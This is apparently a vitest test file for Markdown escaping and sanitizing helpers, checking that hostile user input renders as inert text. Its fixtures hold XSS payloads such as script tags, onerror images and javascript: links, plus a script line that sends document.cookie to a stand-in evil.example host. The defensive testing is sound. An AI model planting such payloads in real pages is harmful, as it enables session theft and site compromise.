import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import type { Nodes } from 'mdast';
import { escapeMarkdown, markdownLinkTarget, safeUserMarkdown } from '@shared/markdown';

/** The text a reader sees. */
function toString(node: Nodes): string {
  if ('value' in node && node.type !== 'html') return node.value;
  return 'children' in node ? node.children.map(toString).join('') : '';
}

/** Every node type in a parsed document, in document order. */
function nodeTypes(markdown: string): string[] {
  const types: string[] = [];
  const visit = (node: Nodes) => {
    types.push(node.type);
    if ('children' in node) node.children.forEach(visit);
  };
  visit(fromMarkdown(markdown));
  return types;
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![pixel](https://tracker.example/p.png)',
  '[click](javascript:alert(1))',
  '# heading\n## another',
  '- not a list',
  '1. not a list either',
  '> not a quote',
  '---',
  '- - -',
  'first\n===',
  '+ plus',
  '2) second',
  '    four spaces are not code',
  '`code` and ``more``',
  '**bold** _em_ ~~strike~~',
  '| a | b |\n|---|---|',
  '&lt;script&gt; &amp; &#60;b&#62;',
  'trailing backslash \\',
  'line\r\nbreaks\rand\u2028separators',
  '<https://autolink.example>',
  '[ref]: https://evil.example',
];

describe('escapeMarkdown: data shown as exactly the text it is', () => {
  it.each(hostile)('%j renders as one plain-text line', (text) => {
    const escaped = escapeMarkdown(text);
    expect(nodeTypes(`- ${escaped}`)).toEqual(['root', 'list', 'listItem', 'paragraph', 'text']);
    // At the start of a line too (headings, list markers and indents are defused).
    expect(nodeTypes(escaped)).toEqual(['root', 'paragraph', 'text']);
    expect(toString(fromMarkdown(escaped))).toBe(text.replace(/\s*(?:\r\n?|\n|\u2028)\s*/g, ' ').trim());
  });

  it('holds for any mix of Markdown-significant characters', () => {
    const unit = fc.constantFrom(...'\\`*_{}[]()<>#+-.!|~&=:;/ \n\tab1é'.split(''));
    fc.assert(
      fc.property(fc.string({ unit, minLength: 1, maxLength: 40 }), (text) => {
        const flat = text.replace(/\s*(?:\r\n?|\n)\s*/g, ' ').trim();
        fc.pre(flat.length > 0);
        const escaped = escapeMarkdown(text);
        expect(nodeTypes(`x ${escaped}`).filter((type) => type !== 'text')).toEqual(['root', 'paragraph']);
        expect(toString(fromMarkdown(`- ${escaped}`))).toBe(flat);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps ordinary text readable', () => {
    expect(escapeMarkdown('Ship v3 on 2026-03-20 (after review)')).toBe('Ship v3 on 2026-03-20 (after review)');
    expect(escapeMarkdown('0.72')).toBe('0.72');
    expect(escapeMarkdown('-5 points')).toBe('-5 points');
  });

  it('encodes a link target so parentheses and spaces cannot end the link', () => {
    expect(markdownLinkTarget('status (final) chart.svg')).toBe('status%20%28final%29%20chart.svg');
  });
});

describe('safeUserMarkdown: a person’s Markdown kept, minus HTML and remote images', () => {
  const summary = [
    '## Where we are',
    '',
    'We shipped **v3** to _shadow_; see [the dashboard](https://grafana.example/d/1).',
    '',
    '- canary next week',
    '- `<b>` stays literal in code',
    '',
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '',
    'Inline <img src=x onerror=alert(1)> and a pixel ![p](https://tracker.example/p.gif) and ![ref][logo].',
    '',
    '[logo]: https://tracker.example/logo.png',
    '',
    '```html',
    '<iframe src="https://evil.example"></iframe>',
    '```',
  ].join('\n');

  it('leaves no raw HTML and no image, and keeps headings, lists, emphasis, links and code', () => {
    const safe = safeUserMarkdown(summary);
    const types = nodeTypes(safe);
    expect(types).not.toContain('html');
    expect(types).not.toContain('image');
    expect(types).not.toContain('imageReference');
    for (const kept of ['heading', 'list', 'strong', 'emphasis', 'link', 'inlineCode', 'code']) expect(types).toContain(kept);
    // The hostile text is still there for the reader to see, as text.
    const text = toString(fromMarkdown(safe));
    expect(text).toContain('<script>fetch(');
    expect(text).toContain('<img src=x onerror=alert(1)>');
    expect(safe).toContain('\\![p](https://tracker.example/p.gif)');
    // Code is untouched: what is inside a fence is shown as written.
    expect(safe).toContain('```html\n<iframe src="https://evil.example"></iframe>\n```');
  });

  it('returns Markdown without HTML or images unchanged', () => {
    const plain = '# Title\n\nSome *text* with a [link](https://example.com) and `code`.\n';
    expect(safeUserMarkdown(plain)).toBe(plain);
  });

  it('defuses HTML that only appears once other HTML is escaped', () => {
    const nested = '<div>\n<<script>>x</script>\n</div>';
    expect(nodeTypes(safeUserMarkdown(nested))).not.toContain('html');
  });
});
